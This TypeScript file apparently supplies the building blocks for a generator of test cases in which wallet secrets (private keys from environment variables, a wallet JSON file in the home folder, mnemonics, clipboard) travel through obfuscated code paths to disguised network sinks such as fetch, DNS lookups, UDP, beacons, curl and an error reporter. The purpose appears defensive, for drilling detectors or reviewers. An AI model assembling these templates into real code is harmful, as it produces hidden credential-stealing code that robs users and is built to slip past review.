import { JAVASCRIPT_ENCODERS } from '../encoders.ts';
import type { Parts } from './compose.ts';
import type { Path, Sink, Source } from './composition.ts';

const SOURCES: readonly Source[] = [
  { name: 'constructor', spot: 'src/account.js:constructor', secret: 'bytes', harmless: 'this.publicKey' },
  { name: 'mnemonic', spot: 'src/account.js:phrase', secret: 'phrase', harmless: "String(phrase.split(' ').length)" },
  { name: 'keystore', spot: 'src/keystore.js:keystore', secret: 'opened', harmless: 'String(opened.length)' },
  {
    name: 'environment',
    spot: 'src/environment.js:environment',
    secret: 'value',
    harmless: 'process.version',
    atImport: { value: "process.env.WALLET_PRIVATE_KEY ?? ''", imports: '' },
  },
  {
    name: 'wallet file',
    spot: 'src/files.js:file',
    secret: 'content',
    harmless: 'String(content.length)',
    atImport: {
      value: "readFileSync(join(homedir(), '.config', 'acme-wallet', 'id.json'), 'utf8')",
      imports:
        "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\n",
    },
  },
  { name: 'browser', spot: 'src/browser.js:browser', secret: 'stored', harmless: 'String(stored.length)' },
  { name: 'clipboard', spot: 'src/paste.js:clipboard', secret: 'pasted', harmless: 'String(pasted.length)' },
  { name: 'use', spot: 'src/signing.js:use', secret: 'b', harmless: 'c' },
];

const one = (name: string, from = 'helper'): Path['imports'] => [{ name, from }];

/** In the files, `deliver` is imported from the codec's file, and `@helper`, `@second` stand for file names. */
const PATHS: readonly Path[] = [
  { name: 'direct', imports: one('deliver', 'codec'), statement: 'deliver($);', files: {} },
  {
    name: 'helper module',
    imports: one('note'),
    statement: 'note($);',
    files: { helper: `export function note(detail) {\n  deliver(detail);\n}\n` },
  },
  {
    name: 'class field',
    imports: one('tracker'),
    statement: 'tracker.note($);',
    files: {
      helper: `class Tracker {\n  last = undefined;\n\n  note(detail) {\n    this.last = { detail, at: 1 };\n    this.flush();\n  }\n\n  flush() {\n    deliver(this.last.detail);\n  }\n}\n\nexport const tracker = new Tracker();\n`,
    },
  },
  {
    name: 'queue and timer',
    imports: one('enqueue'),
    statement: 'enqueue($);',
    files: {
      helper: `const waiting = [];\nlet timer;\n\nfunction flush() {\n  timer = undefined;\n  for (const entry of waiting.splice(0)) deliver(entry.detail);\n}\n\nexport function enqueue(detail) {\n  waiting.push({ detail, at: Date.now() });\n  timer ??= setTimeout(flush, 3_000);\n}\n`,
    },
  },
  {
    name: 'event emitter',
    imports: one('bus'),
    statement: "bus.emit('ready', $);",
    files: {
      helper: `import { bus } from '@second';\n\nbus.on('ready', (detail) => deliver(detail));\n\nexport { bus };\n`,
      second: `import { EventEmitter } from 'node:events';\n\nexport const bus = new EventEmitter();\n`,
    },
  },
  {
    name: 'callback',
    imports: one('withDetail'),
    statement: 'withDetail($, (detail) => detail);',
    files: { helper: `export function withDetail(detail, then) {\n  deliver(then(detail));\n}\n` },
  },
  {
    name: 'promise chain',
    imports: one('later'),
    statement: 'void later($);',
    files: {
      helper: `export function later(detail) {\n  return Promise.resolve(detail)\n    .then((value) => ({ value }))\n    .then(({ value }) => deliver(value))\n    .catch(() => undefined);\n}\n`,
    },
  },
  {
    name: 'generator',
    imports: one('run'),
    statement: 'run($);',
    files: {
      helper: `function* parts(detail) {\n  yield detail.slice(0, 8);\n  yield detail.slice(8);\n}\n\nexport function run(detail) {\n  for (const part of parts(detail)) deliver(part);\n}\n`,
    },
  },
  {
    name: 'closure',
    imports: one('keep'),
    statement: 'keep($)();',
    files: {
      helper: `export function keep(detail) {\n  const kept = detail;\n  return () => {\n    deliver(kept);\n  };\n}\n`,
    },
  },
  {
    name: 'dynamic name',
    imports: one('hub'),
    statement: "hub[['no', 'te'].join('')]($);",
    files: { helper: `export const hub = {\n  start() {},\n  note(detail) {\n    deliver(detail);\n  },\n};\n` },
  },
  {
    name: 'computed table',
    imports: one('table'),
    statement: "table['teon'.split('').reverse().join('')]($);",
    files: { helper: `export const table = Object.fromEntries([[atob('bm9ldA=='), (detail) => deliver(detail)]]);\n` },
  },
  {
    name: 'apply',
    imports: one('note'),
    statement: 'note.apply(undefined, [$]);',
    files: { helper: `export function note(detail) {\n  deliver.call(null, detail);\n}\n` },
  },
  {
    name: 'reflect',
    imports: one('note'),
    statement: 'Reflect.apply(note, undefined, [$]);',
    files: { helper: `export const note = deliver.bind(undefined);\n` },
  },
  {
    name: 're-export',
    imports: one('note'),
    statement: 'note($);',
    files: {
      helper: `export { mark as note } from '@second';\n`,
      second: `export function mark(detail) {\n  deliver(detail);\n}\n`,
    },
  },
  {
    name: 'decorator',
    imports: one('watched'),
    statement: 'watched((detail) => detail)($);',
    files: {
      helper: `export function watched(inner) {\n  return function (...parts) {\n    deliver(parts[0]);\n    return inner.apply(this, parts);\n  };\n}\n`,
    },
  },
  {
    name: 'inheritance',
    imports: one('Reporter'),
    statement: 'new Reporter().report($);',
    files: {
      helper: `import { Base } from '@second';\n\nexport class Reporter extends Base {\n  report(detail) {\n    super.report({ detail });\n  }\n}\n`,
      second: `export class Base {\n  report(entry) {\n    deliver(entry.detail);\n  }\n}\n`,
    },
  },
  {
    name: 'global registry',
    imports: one('state'),
    statement: "(globalThis[Symbol.for('acme.state')] ??= { list: [] }).list.push($);",
    files: {
      helper: `export const state = setInterval(() => {\n  for (const detail of globalThis[Symbol.for('acme.state')]?.list.splice(0) ?? []) deliver(detail);\n}, 5_000);\n`,
    },
  },
  {
    name: 'setter',
    imports: one('status'),
    statement: 'status.last = $;',
    files: { helper: `export const status = {\n  set last(detail) {\n    deliver(detail);\n  },\n};\n` },
  },
  {
    name: 'map',
    imports: [
      { name: 'remember', from: 'helper' },
      { name: 'forget', from: 'helper' },
    ],
    statement: "remember('last', $);\nforget('last');",
    files: {
      helper: `const kept = new Map();\n\nexport function remember(name, detail) {\n  kept.set(name, detail);\n}\n\nexport function forget(name) {\n  deliver(kept.get(name));\n  kept.delete(name);\n}\n`,
    },
  },
  {
    name: 'options object',
    imports: one('note'),
    statement: 'note({ level: 1, context: { extra: $ } });',
    files: {
      helper: `export function note({ context: { extra, ...rest }, ...options }) {\n  deliver(extra, options, rest);\n}\n`,
    },
  },
  {
    name: 'class instance',
    imports: one('Session'),
    statement: 'new Session($).close();',
    files: {
      helper: `export class Session {\n  #detail;\n\n  constructor(detail) {\n    this.#detail = detail;\n  }\n\n  close() {\n    deliver(this.#detail);\n  }\n}\n`,
    },
  },
];

/** `@host` and `@route` stand for those of the disguise. */
const SINKS: readonly Sink[] = [
  {
    name: 'fetch body',
    text: `export function send(text) {\n  fetch('https://@host/@route', { method: 'POST', body: JSON.stringify({ text }) }).catch(() => undefined);\n}\n`,
  },
  {
    name: 'fetch header',
    text: `export async function send(text) {\n  const headers = new Headers({ 'x-request-id': text });\n  await fetch('https://@host/@route', { headers }).catch(() => undefined);\n}\n`,
  },
  {
    name: 'fetch query',
    text: `export function send(text) {\n  const url = new URL('https://@host/@route');\n  url.searchParams.set('v', text);\n  fetch(url).catch(() => undefined);\n}\n`,
  },
  {
    name: 'https request',
    text: `import https from 'node:https';\n\nexport function send(text) {\n  const request = https.request({ host: '@host', path: '/@route', method: 'POST' });\n  request.on('error', () => undefined);\n  request.write(text);\n  request.end();\n}\n`,
  },
  {
    name: 'https get',
    text: `import { get } from 'node:https';\n\nexport function send(text) {\n  get(\`https://@host/@route?v=\${text}\`, (response) => response.resume()).on('error', () => undefined);\n}\n`,
  },
  {
    name: 'xhr',
    text: `export function send(text) {\n  const request = new XMLHttpRequest();\n  request.open('POST', 'https://@host/@route');\n  request.setRequestHeader('x-trace', text);\n  request.send();\n}\n`,
  },
  {
    name: 'web socket',
    text: `export function send(text) {\n  const socket = new WebSocket('wss://@host/@route');\n  socket.addEventListener('open', () => socket.send(text));\n}\n`,
  },
  {
    name: 'ws library',
    text: `import WebSocket from 'ws';\n\nexport function send(text) {\n  const socket = new WebSocket('wss://@host/@route');\n  socket.on('open', () => socket.send(text));\n  socket.on('error', () => undefined);\n}\n`,
  },
  { name: 'beacon', text: `export function send(text) {\n  navigator.sendBeacon('https://@host/@route', text);\n}\n` },
  {
    name: 'image',
    text: `export function send(text) {\n  const image = new Image();\n  image.src = 'https://@host/@route?p=' + encodeURIComponent(text);\n}\n`,
  },
  {
    name: 'dns',
    text: `import dns from 'node:dns';\n\nexport function send(text) {\n  for (const label of text.match(/.{1,60}/g) ?? []) dns.resolve4(\`\${label}.@host\`, () => undefined);\n}\n`,
  },
  {
    name: 'child process',
    text: `import { execFile } from 'node:child_process';\n\nexport function send(text) {\n  execFile('curl', ['-s', '-d', text, 'https://@host/@route'], () => undefined);\n}\n`,
  },
  {
    name: 'file for later',
    text: `import { appendFileSync, readFileSync } from 'node:fs';\nimport { tmpdir } from 'node:os';\nimport { join } from 'node:path';\n\nconst spool = join(tmpdir(), '.portcullis-drill-spool');\n\nexport function send(text) {\n  appendFileSync(spool, text + '\\n');\n}\n\nexport function ship() {\n  return fetch('https://@host/@route', { method: 'PUT', body: readFileSync(spool) }).catch(() => undefined);\n}\n`,
  },
  {
    name: 'error reporter',
    text: `import * as Sentry from '@sentry/node';\n\nSentry.init({ dsn: 'https://0@@host/1' });\n\nexport function send(text) {\n  Sentry.captureException(new Error('unexpected state'), { extra: { text } });\n}\n`,
  },
  {
    name: 'axios',
    text: `import axios from 'axios';\n\nconst client = axios.create({ baseURL: 'https://@host' });\n\nexport function send(text) {\n  client.post('/@route', { text }).catch(() => undefined);\n}\n`,
  },
  {
    name: 'socket',
    text: `import net from 'node:net';\n\nexport function send(text) {\n  const socket = net.connect(443, '@host', () => socket.end(text));\n  socket.on('error', () => undefined);\n}\n`,
  },
  {
    name: 'datagram',
    text: `import { createSocket } from 'node:dgram';\n\nexport function send(text) {\n  const socket = createSocket('udp4');\n  socket.send(Buffer.from(text), 53, '@host', () => socket.close());\n}\n`,
  },
];

export const JAVASCRIPT_PARTS: Parts = {
  sources: SOURCES,
  paths: PATHS,
  encoders: [{ name: 'none', expression: '$', imports: [] }, ...JAVASCRIPT_ENCODERS],
  sinks: SINKS,
  triggers: ['at once', 'timer', 'microtask', 'import'],
  harmlessAtImport: 'process.version',
};
